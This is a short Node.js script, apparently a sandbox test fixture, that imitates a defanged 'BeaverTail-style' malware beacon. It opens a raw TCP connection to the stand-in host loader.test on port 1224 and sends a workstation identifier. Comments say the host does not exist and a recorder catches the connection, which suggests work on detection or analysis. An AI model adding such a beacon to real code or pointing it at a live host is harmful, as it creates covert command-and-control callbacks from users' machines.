// Defanged BeaverTail-style beacon: a raw TCP connection to port 1224 of a name, no HTTP.
// loader.test does not exist; in the sandbox the recorder takes the connection and closes it.
const net = require('net');

const socket = net.connect({ host: 'loader.test', port: 1224 }, () => {
  socket.write('hid=103_workstation&type=beacon\n');
});
socket.setTimeout(5000, () => socket.destroy());
socket.on('error', (err) => console.log('beacon error', err.code));
socket.on('close', () => console.log('beacon closed'));
